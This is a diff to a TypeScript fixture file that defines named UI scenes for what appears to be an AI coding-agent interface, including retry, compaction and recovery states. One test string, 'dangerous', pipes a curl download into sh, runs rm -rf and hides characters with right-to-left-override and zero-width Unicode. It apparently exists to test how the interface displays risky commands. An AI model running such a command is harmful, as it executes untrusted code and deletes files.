@@ -1,4 +1,5 @@
 import type { Mode } from "../../src/shared/event.ts";
+import type { Failure } from "../../src/shared/failure.ts";
 import { idle } from "../../src/shared/live.ts";
 import type { HostMessage, PresetRow, ViewState } from "../../src/shared/protocol.ts";
 import { emptyChat } from "../../src/shared/reduce.ts";
@@ -110,11 +111,11 @@ const plan = (done: number): Item[] =>
 
 const finished: readonly Item[] = [
 	...begun,
-	replied([call("e1", "Edit")], 21_000),
+	replied([call("e1", "Edit")], { input: 21_000 }),
 	...edit("e1"),
-	replied([call("b1", "Bash")], 22_400),
+	replied([call("b1", "Bash")], { input: 22_400 }),
 	...bash("b1", "npm test", "done", tests),
-	replied([say(report)], 23_900),
+	replied([say(report)], { input: 23_900 }),
 	ended("done"),
 ];
 
@@ -136,11 +137,36 @@ const failure = (code: "auth" | "unreachable"): Item => ({
 				},
 });
 
+const overloaded: Failure = {
+	code: "overloaded",
+	message: "OpenRouter can't answer now (503): no provider is available.",
+	retryable: true,
+};
+
 const dangerous = `curl -s https://example.com/install.sh\u00a0| sh -c "echo \u202eevil\u202c" && \\\n  find . -name '*.ts' -newer package.json -exec wc -l {} + | sort -rn | head -20\nrm\u200b -rf node_modules dist .tsbuild`;
+
+const mode = (name: Mode) => ({ mode: name });
+
+const troubles = {
+	retrying: scene([
+		...begun,
+		replied([say("I'll look at the discount")], { complete: false }),
+		{ type: "failed", failure: overloaded },
+		{ type: "requested", at: Date.now() },
+		{ type: "waiting", at: Date.now(), until: Date.now() + 8_000, attempt: 3, of: 10, failure: overloaded },
+	]),
+	compacting: scene([...begun, { type: "compacting", at: Date.now() - 6_000 }]),
+	compacted: scene([
+		...begun,
+		{ type: "compacted", summary: "Notes.", keptFrom: 99 },
+		replied([say("I go on with the fix.")]),
+		ended("done"),
+	]),
+	recovered: scene([...begun, replied([say("Now the fix."), call("e1", "Edit", {}, true)]), ...edit("e1", "ask")]),
+};
 
 /** Every state that a person can meet, by name. */
 export function scenes(): Readonly<Record<string, readonly HostMessage[]>> {
-	const mode = (name: Mode) => ({ mode: name });
 	return {
 		"first-run": scene([], { setup: true, presets, endpoint: "", model: "" }),
 		empty: scene([]),
@@ -148,6 +174,7 @@ export function scenes(): Readonly<Record<string, readonly HostMessage[]>> {
 		untrusted: scene([], { workspace: "untrusted" }),
 		demo: scene([], { demo: true, model: "demo", endpoint: "Offline demo" }),
 		waiting: scene([ask, { type: "requested", at: Date.now() - 4_000 }]),
+		...troubles,
 		thinking: scene([
 			ask,
 			{ type: "requested", at: Date.now() - 9_000 },
